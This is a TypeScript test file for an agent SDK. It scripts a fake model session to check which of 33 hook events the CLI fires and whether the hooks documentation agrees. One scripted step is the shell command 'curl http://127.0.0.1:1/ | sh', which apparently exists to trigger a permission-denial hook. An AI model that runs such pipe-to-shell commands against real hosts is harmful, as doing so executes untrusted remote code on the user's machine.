import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { mkdir, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { Deferred } from "@sluice/agent/extend";
import {
  HOOK_EVENTS,
  type HookCallback,
  type HookEvent,
  type HookOutput,
} from "@sluice/agent";
import { resultText } from "../_clients.ts";
import { test } from "../_harness.ts";
import { stdioFixture } from "../mcp/_connecting.ts";
import { bash, QUESTION, realTest, withRealClient } from "./_real.ts";

/** Events that the CLI kept to itself in all that was tried: nothing of a session of a program leads to them. */
const UNSEEN: readonly HookEvent[] = ["CwdChanged", "Setup", "TeammateIdle"];

/** Those that callbacks are called for. */
const SEEN: readonly HookEvent[] = HOOK_EVENTS.filter((event) =>
  !UNSEEN.includes(event)
);

realTest(
  "of all 33 hooks the CLI calls 30 in a session that has everything, and Setup, CwdChanged and TeammateIdle never",
  [
    bash("touch one.txt"),
    bash("false"),
    bash("mkdir -p sub && cd sub"),
    {
      tool: "Agent",
      input: {
        description: "Help",
        prompt: "Help, please",
        subagent_type: "helper",
        run_in_background: false,
      },
    },
    { text: "Helped.", match: { system: "HELPER" } },
    { tool: "TaskCreate", input: { subject: "Tidy", description: "All" } },
    { tool: "TaskUpdate", input: { taskId: "1", status: "completed" } },
    { tool: "EnterWorktree", input: { name: "copy" } },
    {
      tool: "ExitWorktree",
      input: { action: "remove", discard_changes: true },
    },
    QUESTION,
    "All done.",
    "Hello Bob.",
    bash("curl http://127.0.0.1:1/ | sh"),
    "Then not.",
    {
      text: "A summary.",
      match: { lastText: "Respond with TEXT ONLY" },
      repeat: true,
    },
    { error: { status: 400 }, repeat: true },
  ],
  async (real) => {
    const { cwd, options: { env } } = real;
    const settings = join(env["HOME"] ?? "", ".claude", "settings.json");
    const watched = join(cwd, "watched.txt");
    const [other, copy] = [join(cwd, "other"), join(cwd, "copy")] as const;
    const commands = join(cwd, ".claude", "commands");
    for (const folder of [other, copy, commands, dirname(settings)]) {
      await mkdir(folder, { recursive: true });
    }
    await writeFile(join(cwd, "CLAUDE.md"), "Be brief.\n");
    await writeFile(join(commands, "hello.md"), "Say hello to $ARGUMENTS\n");
    await writeFile(watched, "before");
    await writeFile(settings, "{}");

    const called = new Set<HookEvent>();
    const late = { FileChanged: new Deferred(), ConfigChange: new Deferred() };
    const outputs: { readonly [E in HookEvent]?: HookOutput<E> } = {
      SessionStart: {
        hookSpecificOutput: {
          hookEventName: "SessionStart",
          watchPaths: [watched],
        },
      },
      WorktreeCreate: {
        hookSpecificOutput: {
          hookEventName: "WorktreeCreate",
          worktreePath: copy,
        },
      },
    };
    const note: HookCallback = ({ hook_event_name: event }) => {
      called.add(event);
      if (event === "FileChanged" || event === "ConfigChange") {
        late[event].resolve(undefined);
      }
      return outputs[event] ?? {};
    };
    await withRealClient(real, {
      model: "claude-haiku-4-5",
      env: { ...env, CLAUDE_CODE_MAX_RETRIES: "0" },
      hooks: Object.fromEntries(
        HOOK_EVENTS.map((event) => [event, [{ hooks: [note] }]]),
      ),
      agents: { helper: { description: "Helps", prompt: "HELPER" } },
      mcpServers: { srv: { ...stdioFixture("tools"), via: "cli" } },
      permissions: {
        approve: ["mcp__srv"],
        canUseTool: () => ({ behavior: "allow" }),
      },
      onElicitation: () => ({ action: "accept", content: { name: "Ada" } }),
    }, async (client) => {
      await client.registerRepoRoot(other);
      await client.ask("/clear");
      await writeFile(watched, "after");
      await writeFile(settings, JSON.stringify({ cleanupPeriodDays: 20 }));
      assert.equal(resultText(await client.ask("go")), "All done.");
      for (const { promise } of Object.values(late)) await promise;
      await client.ask("/hello Bob");
      await client.setModel(null);
      await client.setPermissionMode("auto");
      await client.ask("deny it");
      assert.equal((await client.ask("fail")).is_error, true);
      await client.ask("/compact");
    });
    assert.deepEqual([...called].toSorted(), SEEN.toSorted());
  },
);

test("docs/hooks.md says which hooks are called, as the CLI was seen to", () => {
  const page = readFileSync(
    new URL("../../docs/hooks.md", import.meta.url),
    "utf8",
  );
  const rows = [...page.matchAll(/^\| (`\w+`(?:, `\w+`)*) +\| (\w*) +\|/gm)]
    .flatMap(([, names = "", seen = ""]) =>
      [...names.matchAll(/\w+/g)].map((
        [name],
      ): [string, string] => [name, seen])
    ).filter(([name]) => HOOK_EVENTS.includes(name as HookEvent));
  assert.deepEqual(
    rows.map(([name]) => name).toSorted(),
    HOOK_EVENTS.toSorted(),
  );
  for (const [name, seen] of rows) {
    const isSeen = SEEN.includes(name as HookEvent);
    assert.match(seen, isSeen ? /^(?:yes|late)$/ : /^never$/, name);
  }
});
